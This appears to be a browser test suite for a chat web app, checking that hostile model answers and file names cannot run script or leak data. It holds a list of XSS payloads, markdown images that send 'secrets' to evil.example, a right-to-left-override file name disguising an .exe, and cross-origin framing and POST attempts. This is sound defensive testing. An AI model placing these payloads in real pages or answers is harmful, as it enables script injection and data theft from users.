"""What a hostile model or a hostile file may not do to who reads its answers."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from in_process import Running

pytestmark = pytest.mark.xdist_group("browser")

PAYLOADS = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><animate onbegin=\"document.title='owned'\" dur=1s>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=key><button>Send</button></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    "onerror=document.title='owned'&gt;\">",
    "[a link](javascript:document.title='owned')",
    "[a link](  JaVaScRiPt&#58;document.title='owned')",
    "[a link](data:text/html,<script>document.title='owned'</script>)",
    "[a link](vbscript:x) <javascript:document.title='owned'>",
    "![picture](https://evil.example/?secret=all)",
    "![picture][1]\n\n[1]: https://evil.example/?secret=reference",
    "[![picture](//evil.example/?secret=nested)](https://good.example)",
    "`` `\"><img src=x onerror=document.title='owned'>` ``",
    "```\"><img src=x onerror=document.title='owned'>\n<b>code</b>\n```",
    "| <img src=x onerror=document.title='owned'> |\n|---|\n| <script>document.title='owned'</script> |",
    '[x](https://good.example "title\\" onmouseover=\\"document.title=\'owned\'")',
    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
    '<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">',
]
ALLOWED = {"class", "href", "title", "target", "rel", "align", "type", "data-copy", "tabindex", "role"}
ALLOWED |= {"aria-label", "start", "disabled", "checked"}
INSIDE = """area => [...area.querySelectorAll('.prose *')].map(
  one => [one.tagName.toLowerCase(), one.getAttributeNames(), one.getAttribute('href') || ''])"""


def test_no_payload_becomes_an_element_or_a_request(scripted: Callable[..., Running], visit) -> None:
    server = scripted("\n\n".join(PAYLOADS))
    site = visit(server.url)
    page = site.open()
    answer = site.ask("Attack me")
    for tag, names, href in answer.evaluate(INSIDE):
        assert tag not in ("script", "img", "svg", "iframe", "style", "link", "form", "math", "base", "meta")
        assert set(names) <= ALLOWED, (tag, names)
        assert href == "" or href.startswith(("https://", "http://", "mailto:")), href
    for link in answer.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert "<script>document.title = 'owned'</script>" in answer.inner_text(), "it is shown as text"
    page.wait_for_timeout(300)  # what was to run has had its time
    assert page.title() == "Chat · Headrace"
    assert site.foreign == []
    page.reload()
    page.locator(".conversations .title").first.click()
    page.locator("article.assistant").wait_for()
    assert page.title() == "Chat · Headrace"


def test_trusted_types_refuse_what_was_not_sanitized(scripted: Callable[..., Running], visit) -> None:
    site = visit(scripted().url)
    page = site.open()
    attempt = (
        "() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (e) { return e.name } }"
    )
    assert page.evaluate(attempt) == "TypeError"
    site.problems.clear()


def test_characters_that_turn_the_order_around_are_seen_in_code(
    scripted: Callable[..., Running], visit
) -> None:
    answer_text = "```python\naccess = 'user\u202e \u2066# check\u2069 \u2066'\n```"
    site = visit(scripted(answer_text).url)
    site.open()
    answer = site.ask("Review this")
    assert answer.locator(".hidden-character").all_inner_texts() == ["U+202E", "U+2066", "U+2069", "U+2066"]


def test_a_hostile_file_name_is_a_name(scripted: Callable[..., Running], visit, tmp_path: Path) -> None:
    site = visit(scripted("ok").url)
    page = site.open()
    name = '<img src=x onerror=document.title="owned">\u202etxt.exe'
    file = {"name": name, "mimeType": "text/plain", "buffer": b"text"}
    page.locator("form.composer input[type=file]").set_input_files([file])
    assert page.locator(".chips bdi").inner_text() == name
    site.ask("Read it")
    assert page.locator(".file bdi").inner_text() == name
    assert page.title() == "Chat · Headrace"


def test_markdown_bombs_and_long_lines_leave_the_page_alive(scripted: Callable[..., Running], visit) -> None:
    nested = "> " * 2000 + "deep\n\n" + "*" * 3000 + "\n\n" + "[" * 3000 + "\n\n" + "x" * 3000
    server = scripted("x")
    site = visit(server.url)
    page = site.open()
    exported = {
        "id": "ab" * 12,
        "title": "bomb",
        "leaf": "b",
        "nodes": {
            "a": {"role": "user", "content": "bomb", "parent": None, "created": 1},
            "b": {"role": "assistant", "content": nested, "parent": "a", "created": 2},
        },
    }
    data = json.dumps({"headrace_conversations": [exported]}).encode()
    file = {"name": "bomb.json", "mimeType": "application/json", "buffer": data}
    page.locator("input[type=file][accept]").set_input_files([file])
    page.locator("article.assistant", has_text="deep").wait_for()
    assert page.locator("article.assistant").evaluate("area => area.scrollWidth <= area.clientWidth + 1")
    assert site.ask("Still there?").inner_text()


def test_no_other_page_may_frame_it_or_post_to_it(scripted: Callable[..., Running], visit) -> None:
    server = scripted()
    reply = server.http().post(
        "/v1/chat/completions",
        json={"messages": [{"role": "user", "content": "x"}]},
        headers={"origin": "https://evil.example"},
    )
    assert reply.status_code == 403
    site = visit(server.url)
    site.page.set_content(f"<iframe src='{server.url}/'></iframe>")
    site.page.wait_for_timeout(500)
    (_, frame) = site.page.frames
    assert frame.url in ("chrome-error://chromewebdata/", "about:blank") or not frame.locator("#app").count()
    site.problems.clear()
